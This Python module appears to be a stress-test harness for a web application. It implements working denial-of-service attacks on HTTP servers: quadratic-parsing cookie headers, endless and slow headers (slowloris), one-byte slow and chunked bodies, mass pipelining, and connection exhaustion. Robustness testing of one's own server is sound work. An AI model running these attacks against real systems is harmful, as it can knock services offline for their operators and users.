"""Attacks on connections: headers, bodies and requests written by hand."""

from __future__ import annotations

import asyncio
import itertools
import time
from collections import Counter

from .target import Target, attack, discard, plainly, shown


@attack
async def cookies(target: Target) -> str:
    """Cookie headers of 30 and 200 kB that are parsed in quadratic time."""
    codes: Counter[str] = Counter()
    for size in itertools.cycle((30_000, 200_000, 30_000, 60_000)):
        if not target.on:
            return shown(codes)
        cookie = 'x="' + '\\"' * (size // 2) + '"'
        codes[
            await plainly(target, f"GET /api/health HTTP/1.1\r\nHost: {target.host}\r\nCookie: {cookie}\r\n\r\n")
        ] += 1
    return ""


@attack
async def endless_headers(target: Target) -> str:
    """Header lines without end on a few connections."""
    return await stream(target, f"GET / HTTP/1.1\r\nHost: {target.host}\r\n".encode(), b"X-Padding: abc\r\n" * 400)


@attack
async def endless_header(target: Target) -> str:
    """One header that does not end."""
    return await stream(target, f"GET / HTTP/1.1\r\nHost: {target.host}\r\nX: ".encode(), b"x" * 65536)


@attack
async def pipelined(target: Target) -> str:
    """Requests one after the other on a connection, the answers never read."""
    return await stream(target, b"", f"GET /api/health HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode() * 400)


@attack
async def pipelined_pages(target: Target) -> str:
    """The same for the page itself, with its answers read."""
    request = f"GET /table/x HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode() * 100
    return await stream(target, b"", request, reading=True)


@attack
async def tiny_chunks(target: Target) -> str:
    """A body in chunks of one byte."""
    head = f"POST /api/tables HTTP/1.1\r\nHost: {target.host}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    return await stream(target, head, b"1\r\n \r\n" * 4000)


async def stream(target: Target, head: bytes, endless: bytes, count: int = 8, reading: bool = False) -> str:
    """Send without end on some connections; a closed one is opened anew."""
    sent = opened = 0

    async def one() -> None:
        nonlocal sent, opened
        while target.on:
            try:
                reader, writer = await target.raw()
            except OSError:
                await asyncio.sleep(0.05)
                continue
            opened += 1
            drain = asyncio.create_task(discard(reader)) if reading else None
            try:
                writer.write(head)
                while target.on:
                    writer.write(endless)
                    sent += len(endless)
                    await asyncio.wait_for(writer.drain(), max(0.01, target.end - time.monotonic()))
                    if writer.is_closing() or reader.at_eof():
                        break
            except (OSError, TimeoutError):
                pass
            finally:
                if drain is not None:
                    drain.cancel()
                writer.close()
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(count)))
    return f"{sent / 1e6:.0f} MB on {opened} connections"


@attack
async def slow_headers(target: Target) -> str:
    """Many connections that send a byte of a header now and then, and a stranger who wants to come in."""
    return await hold(target, 2_000, b"GET / HTTP/1.1\r\nX: ", b"x")


@attack
async def slow_bodies(target: Target) -> str:
    """Many connections that send a body a byte at a time."""
    head = f"POST /api/tables HTTP/1.1\r\nHost: {target.host}\r\nContent-Length: 10000\r\n\r\n"
    return await hold(target, 1_000, head.encode(), b" ")


@attack
async def connections(target: Target) -> str:
    """As many connections as there can be."""
    return await hold(target, 6_000, b"", b"")


async def hold(target: Target, count: int, head: bytes, drip: bytes) -> str:
    """Hold connections open; how many of them are open in the end."""
    held: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    begun = time.monotonic()
    while len(held) < count and target.on and time.monotonic() - begun < 5:
        try:
            reader, writer = await asyncio.wait_for(target.raw(), 2)
        except (OSError, TimeoutError):
            break
        writer.write(head)
        held.append((reader, writer))
    reading = [asyncio.create_task(discard(reader)) for reader, _ in held]
    while target.on:
        for _, writer in held:
            if drip and not writer.is_closing():
                writer.write(drip)
        await asyncio.sleep(1)
    still = sum(not task.done() for task in reading)
    return f"{len(held)} opened, {still} held to the end"
